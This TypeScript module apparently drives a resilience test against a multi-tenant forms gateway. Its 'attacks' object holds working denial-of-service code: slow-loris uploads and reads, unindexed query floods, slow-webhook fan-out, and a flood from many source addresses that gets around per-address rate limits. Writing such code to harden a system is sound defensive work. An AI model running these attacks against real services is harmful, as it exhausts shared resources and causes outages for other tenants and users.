import { setMaxListeners } from 'node:events';
import { request, type ClientRequest, type IncomingMessage, type RequestOptions } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';

/** What the attacker knows: its own tenant. */
export interface Victim {
  gatewayUrl: string;
  token: string;
  /** With many submissions. */
  formId: string;
  /** Each with endpoints that answer late. */
  slowForms: string[];
  dataLists: string[];
}

/** Few clients with pauses: the system is to be full, and not the cores of the load generator. */
const clients = 8;
const pauseMs = 20;
const slowUploads = 40;
const slowReaders = 40;
/** Loopback addresses of the flood, and the rate of each: five a second is what the gateway admits. */
const addresses = 16;
const floodPauseMs = 200;
const importedRows = 100_000;

const csv = Buffer.from(
  `value,default,de\r\n${Array.from({ length: importedRows }, (_, n) => `v${n},Item ${n},Label ${n}\r\n`).join('')}`,
);

/** Each runs until it is stopped. What the system refuses is tried again after a pause. */
export const attacks = {
  /** Imports and creates whose bodies arrive byte by byte. */
  'slow uploads': (victim: Victim, stop: AbortSignal) =>
    repeat(slowUploads, stop, (n) =>
      slowUpload(
        n % 2 === 0
          ? optionsOf(victim, 'PUT', `/api/data-lists/${listOf(victim, n)}/import`, 'text/csv')
          : optionsOf(victim, 'POST', `/api/forms/${victim.formId}/submissions`, 'application/json'),
        stop,
      ),
    ),
  /** Exports and large pages that are read a few bytes a second. */
  'slow readers': (victim: Victim, stop: AbortSignal) =>
    repeat(slowReaders, stop, (n) =>
      n % 2 === 0
        ? slowRead(optionsOf(victim, 'POST', `/api/forms/${victim.formId}/submissions/export`), stop)
        : slowRead(optionsOf(victim, 'GET', `/api/forms/${victim.formId}/submissions?limit=200`), stop),
    ),
  /** Filters and sorts without an index over all submissions of a form. */
  'filters without an index': (victim: Victim, stop: AbortSignal) =>
    repeat(clients, stop, (n) =>
      send(
        optionsOf(victim, 'GET', `/api/forms/${victim.formId}/submissions?${filters[n % filters.length]!}`),
      ),
    ),
  /** Events for thousands of endpoints that answer late. */
  'slow webhooks': (victim: Victim, stop: AbortSignal) => {
    let next = 0;
    return repeat(1, stop, () => {
      const formId = victim.slowForms[next++ % victim.slowForms.length]!;
      const options = optionsOf(victim, 'POST', `/api/forms/${formId}/submissions`, 'application/json');
      return send(options, '{"isComplete":true}');
    });
  },
  /** Anonymous creates from many addresses. */
  flood: (victim: Victim, stop: AbortSignal) =>
    repeat(
      addresses,
      stop,
      (n) => {
        const { headers: _, ...options } = optionsOf(
          victim,
          'POST',
          `/api/forms/${victim.formId}/submissions`,
        );
        const headers = { 'content-type': 'application/json' };
        return send({ ...options, headers, localAddress: `127.0.1.${n + 1}` }, '{"jsonData":"{}"}');
      },
      floodPauseMs,
    ),
  /** Imports of large lists, one after the other for each list. */
  'big imports': (victim: Victim, stop: AbortSignal) =>
    repeat(4, stop, (n) =>
      send(optionsOf(victim, 'PUT', `/api/data-lists/${listOf(victim, n)}/import`, 'text/csv'), csv),
    ),
};

const filters = [
  'filter=jsonData:x',
  'search=absent',
  'filter=metadata:x&sortBy=modifiedAt',
  'limit=200&total=exact&sortBy=modifiedAt',
];

const listOf = ({ dataLists }: Victim, n: number) => dataLists[n % dataLists.length]!;

function optionsOf(victim: Victim, method: string, path: string, contentType?: string): RequestOptions {
  const { hostname, port } = new URL(victim.gatewayUrl);
  const headers = {
    authorization: `Bearer ${victim.token}`,
    ...(contentType === undefined ? {} : { 'content-type': contentType }),
  };
  return { hostname, port, method, path, headers };
}

async function repeat(
  count: number,
  stop: AbortSignal,
  once: (n: number) => Promise<void>,
  restMs = pauseMs,
): Promise<void> {
  setMaxListeners(0, stop);
  const lane = async (n: number) => {
    while (!stop.aborted) {
      await once(n);
      await sleep(restMs, undefined, { signal: stop }).catch(() => undefined);
    }
  };
  await Promise.all(Array.from({ length: count }, (_, n) => lane(n)));
}

/** A request whose response is dropped. A refusal or a lost connection is followed by a second of rest. */
async function send(options: RequestOptions, body?: string | Buffer): Promise<void> {
  const status = await new Promise<number>((resolve) => {
    const call = request(options, (response) => {
      response.resume().on('close', () => resolve(response.statusCode ?? 0));
    });
    call.on('error', () => resolve(0));
    call.end(body);
  });
  if (status === 0 || status >= 429) await sleep(1_000);
}

/** Sends one byte a second until the other side ends it. */
const slowUpload = (options: RequestOptions, stop: AbortSignal): Promise<void> =>
  slowly(options, stop, (call) => {
    call.write('value,default\r\n');
    return () => call.write('v');
  });

/** Reads a little each second until the other side ends it. */
const slowRead = (options: RequestOptions, stop: AbortSignal): Promise<void> =>
  slowly(options, stop, (call) => {
    let reading: IncomingMessage | undefined;
    call.on('response', (response) => (reading = response.pause()));
    call.end();
    return () => reading?.read(64);
  });

/** Sends a request and continues it once a second until it ends. @param begin returns what continues it */
function slowly(
  options: RequestOptions,
  stop: AbortSignal,
  begin: (call: ClientRequest) => () => unknown,
): Promise<void> {
  return new Promise((resolve) => {
    const call = request({ ...options, agent: false });
    const timer = setInterval(begin(call), 1_000);
    const end = () => {
      clearInterval(timer);
      call.destroy();
      setTimeout(resolve, stop.aborted ? 0 : 1_000);
    };
    for (const event of ['error', 'close']) call.on(event, end);
    stop.addEventListener('abort', end, { once: true });
  });
}
